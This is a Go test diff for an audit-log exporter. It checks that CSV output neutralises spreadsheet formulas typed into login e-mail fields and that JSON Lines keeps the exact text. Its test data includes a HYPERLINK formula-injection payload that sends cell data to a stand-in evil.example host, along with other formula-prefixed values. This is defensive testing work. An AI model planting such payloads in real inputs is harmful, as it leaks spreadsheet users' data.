@@ -2,12 +2,15 @@ package audit
 
 import (
 	"bytes"
+	"encoding/csv"
+	"encoding/json"
 	"errors"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/regio-mgz/mgz"
+	"github.com/regio-mgz/mgz/csvsafe"
 )
 
 func chain(n int) []mgz.AuditEntry {
@@ -96,5 +99,70 @@ func TestExportFormats(t *testing.T) {
 	}
 	if n := strings.Count(jsonBuf.String(), "\n"); n != 2 || !strings.Contains(jsonBuf.String(), `"hash":"`+es[1].Hash+`"`) {
 		t.Fatalf("json lines:\n%s", jsonBuf.String())
+	}
+}
+
+// TestCSVExportNeutralisesFormulasAndJSONLinesKeepsTheExactText: an e-mail typed at the login
+// form lands in the export; in CSV it must not be a live formula, in JSON Lines it stays exact.
+func TestCSVExportNeutralisesFormulasAndJSONLinesKeepsTheExactText(t *testing.T) {
+	typed := []string{`=HYPERLINK("https://evil.example?d="&A1,"klik")@a.nl`, "+1@a.nl", "-1@a.nl", "@x@a.nl", "\t=1@a.nl", "\r=1@a.nl"}
+	var es []mgz.AuditEntry
+	prev, id := Genesis, int64(0)
+	for _, s := range typed {
+		e := mgz.AuditEntry{At: time.Date(2026, 11, 30, 15, 0, 0, 0, time.UTC), UserEmail: s, Action: mgz.AuditLoginFailed,
+			Outcome: mgz.OutcomeDenied, Reason: s, ClientAddress: "192.0.2.1"}
+		Seal(&e, id, prev)
+		id, prev = e.ID, e.Hash
+		es = append(es, e)
+	}
+	var csvBuf, jsonBuf bytes.Buffer
+	w, err := NewCSVWriter(&csvBuf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	j := NewJSONLinesWriter(&jsonBuf)
+	for _, e := range es {
+		if err := w.Write(e); err != nil {
+			t.Fatal(err)
+		}
+		if err := j.Write(e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&csvBuf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	for i, e := range es {
+		row := rows[i+1]
+		for _, name := range []string{"user_email", "reason"} {
+			cell := row[col[name]]
+			if cell != "'"+typed[i] {
+				t.Errorf("CSV %s of entry %d = %q, want %q", name, e.ID, cell, "'"+typed[i])
+			}
+			if csvsafe.Restore(cell) != typed[i] {
+				t.Errorf("CSV %s of entry %d does not restore to the typed text", name, e.ID)
+			}
+		}
+	}
+	dec := json.NewDecoder(&jsonBuf)
+	for i := range es {
+		var got mgz.AuditEntry
+		if err := dec.Decode(&got); err != nil {
+			t.Fatal(err)
+		}
+		if got.UserEmail != typed[i] || got.Reason != typed[i] {
+			t.Errorf("JSON Lines entry %d: e-mail %q, reason %q; want the exact typed text %q", i, got.UserEmail, got.Reason, typed[i])
+		}
+		if Sum(got) != got.Hash {
+			t.Errorf("JSON Lines entry %d no longer matches its hash", i)
+		}
 	}
 }
